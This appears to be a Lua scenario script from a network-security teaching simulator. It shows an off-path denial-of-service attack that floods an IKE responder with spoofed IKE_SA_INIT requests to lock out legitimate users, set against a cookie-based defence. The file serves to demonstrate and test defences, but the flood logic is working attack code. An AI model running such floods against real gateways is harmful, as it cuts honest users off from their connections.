-- A limit is a weapon. Where somebody counts requests and shuts the door when there are too many, an adversary makes them too many - from forged
-- addresses, or from behind the same NAT - and the door is shut for everybody. What tells friend from foe is a cookie: it costs the honest one a round
-- trip, and the forger everything.
attack = {
  id = "A13", name = "lock-out",
  about = "Keeps the number of IKE_SA_INIT requests above what a filter lets through, so that nobody else gets in",
  position = "off-path",
  needs = "a network that lets forged source addresses out; a limit that does not ask for cookies",
  source = "RFC 8019, 4.4; strongSwan issue 2791; catalogue A13",
  shows = {
    vulnerable = "a filter that counts requests: the gateway is spared, and so are its users: not one call gets through",
    hardened = "cookies instead of the filter: the flood leaves nothing behind, and the honest call is let in",
  },
  scenarios = { vulnerable = "lock-out", hardened = "lock-out-cookies" },
}

-- Parameters: target, count = 350, every = "20ms"
local target, count, every, pair, sent = nil, 350, "20ms", nil, 0
local proposal = { number = 1, protocol = 1, spi = "", transforms = {
  { type = 1, id = 20, key_bits = 256 }, { type = 2, id = 5 }, { type = 4, id = 31 } } }

function on_start(params)
  target, count, every = assert(params.target, "parameter target: the responder's address"), tonumber(params.count or count), params.every or every
  pair = crypto.key_pair("x25519")
  timer.after("1s", "send")
end

function on_timer()
  if sent == 0 then mark("mallory sends fifty requests a second, from addresses that do not exist, and does not stop.") end
  sent = sent + 1
  inject{ src = "203.0.113." .. (1 + sent % 250), src_port = 500, dst = target, dst_port = 500, protocol = "IKE",
    note = "IKE_SA_INIT from an address that is not its own",
    payload = ike.encode{ spi_i = bytes.hex(crypto.random(8)), spi_r = "0000000000000000", exchange = 34, initiator = true, message_id = 0,
      payloads = { ike.sa(proposal), ike.ke(pair), ike.nonce(crypto.random(32)) } } }
  if sent < count then timer.after(every, "send") end
end

-- Whether the honest one got in it cannot see: the scenario tells.
function on_finish()
  learn("the flood", sent .. " requests sent; who was shut out by them, only the victims know", "counted")
end
